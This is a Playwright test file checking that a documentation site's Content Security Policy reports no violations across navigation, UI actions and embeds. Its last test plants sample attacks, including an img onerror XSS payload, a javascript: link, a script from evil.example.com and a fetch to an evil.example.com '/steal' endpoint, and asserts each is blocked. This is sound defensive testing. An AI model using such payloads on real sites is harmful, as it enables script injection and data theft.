import type { Page } from "@playwright/test";
import { untilIdle } from "./support/settled";
import { expect, test } from "./support/site";

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Collects what the page's Content Security Policy blocks, from the start of each load. */
async function watchPolicy(page: Page): Promise<() => Promise<Violation[]>> {
  const seen: Violation[] = [];
  await page.exposeFunction("reportViolation", (violation: Violation) => seen.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { reportViolation: (violation: Violation) => void })
        .reportViolation;
      report({
        directive: event.violatedDirective,
        blocked: event.blockedURI,
        sample: event.sample,
      });
    });
  });
  return async () => {
    await untilIdle(page);
    return seen;
  };
}

const kinds = [
  "/",
  "/observability/trace-with-python-sdk/instrument-functions",
  "/tutorials/cookbooks/capture-user-feedback",
  "/reference/api/category",
  "/reference/api/add-trace",
  "/changelog/main",
  "/changelog",
  "/roadmap",
  "/search",
  "/authoring/components",
];

/** Navigates by clicking a link, like a reader does. */
async function follow(page: Page, path: string): Promise<void> {
  await page.evaluate((href) => {
    const link = document.createElement("a");
    link.href = href;
    document.querySelector("main")?.append(link);
    link.click();
  }, path);
  await page.waitForURL(`**${path}`);
}

test("no kind of page violates the policy, and no navigation between them does", {
  tag: "@smoke",
}, async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto("/search");
  for (const path of kinds) await follow(page, path);
  expect(await violations()).toEqual([]);
});

test("menus, tabs, copy, zoom and a slow navigation are not against the policy", async ({
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const violations = await watchPolicy(page);
  await page.goto("/authoring/components");
  await page.getByRole("button", { name: "Dark theme" }).click();
  await page.getByRole("button", { name: /copy/i }).first().click();
  const picture = page.locator("main figure img, main p img").first();
  await picture.hover();
  await expect(async () => {
    await picture.click();
    await expect(page.locator(".medium-zoom-overlay")).toBeVisible({ timeout: 1000 });
  }).toPass();
  await page.keyboard.press("Escape");
  await page.keyboard.press("?");
  await expect(page.getByRole("dialog", { name: /shortcuts/i })).toBeVisible();
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole("button", { name: "Open menu" }).click();
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 1440, height: 900 });
  let release = () => {};
  const released = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route("**/roadmap", async (route) => {
    await released;
    await route.continue();
  });
  const bars = await page.evaluate(async () => {
    document.querySelector<HTMLElement>('a[href="/roadmap"]')?.click();
    await new Promise((resolve) => setTimeout(resolve, 600));
    return document.querySelectorAll("#nprogress .bar").length;
  });
  expect(bars).toBe(1);
  release();
  await expect(page).toHaveURL("/roadmap");
  expect(await violations()).toEqual([]);
});

test("a video plays from its host, which the policy allows and nothing asked before", {
  tag: "@smoke",
}, async ({ page, problems }) => {
  const violations = await watchPolicy(page);
  await page.route("https://www.youtube-nocookie.com/**", (route) =>
    route.fulfill({ contentType: "text/html", body: "<h1>Player</h1>" }),
  );
  await page.goto("/authoring/components");
  expect(problems.outside).toEqual([]);
  await page.locator("site-video a").first().click();
  await expect(page.frameLocator("iframe").getByText("Player")).toBeVisible();
  expect(await violations()).toEqual([]);
  expect(problems.outside.every((url) => url.startsWith("https://www.youtube-nocookie.com/"))).toBe(
    true,
  );
  problems.outside.length = 0;
});

test("the explorer works within the policy of its own page", async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto("/reference/api/category");
  await page.getByRole("main").locator('a[href^="/reference/api/explorer"]').first().click();
  await page.waitForURL("**/reference/api/explorer**");
  await page.getByRole("button", { name: "Open the explorer" }).click();
  await expect(
    page.locator("site-explorer [data-state=ready], site-explorer .redoc-wrap").first(),
  ).toBeVisible({
    timeout: 60_000,
  });
  expect(await violations()).toEqual([]);
});

test("what an attacker would plant does not run", { tag: "@smoke" }, async ({ page, problems }) => {
  await page.goto("/evaluation/concepts");
  const outcome = await page.evaluate(async () => {
    const run: string[] = [];
    Object.assign(window, { ran: (what: string) => run.push(what) });
    const attempt = (work: () => void) => {
      try {
        work();
      } catch {
        // Trusted Types throws on this attempt.
      }
    };
    attempt(() => {
      const script = document.createElement("script");
      script.textContent = "ran('inline script')";
      document.body.append(script);
    });
    attempt(() => {
      const box = document.createElement("div");
      box.innerHTML = "<img src=x onerror=\"ran('handler')\">";
      document.body.append(box);
    });
    attempt(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example.com/a.js";
      document.body.append(script);
    });
    // Run in a separate task, because code that the debugger evaluates is allowed to use eval.
    setTimeout(() =>
      attempt(() => {
        // biome-ignore lint/security/noGlobalEval: the test checks that it doesn't run
        window.eval("ran('eval')");
      }),
    );
    attempt(() => {
      const link = document.createElement("a");
      link.href = "javascript:ran('address')";
      document.body.append(link);
      link.click();
    });
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example.com/";
    document.body.append(frame);
    const sent = await fetch("https://evil.example.com/steal").then(
      () => "sent",
      () => "blocked",
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { run, sent };
  });
  expect(outcome).toEqual({ run: [], sent: "blocked" });
  // The browser logs each blocked attempt to the console, as expected here.
  problems.console.length = 0;
  problems.outside.length = 0;
});
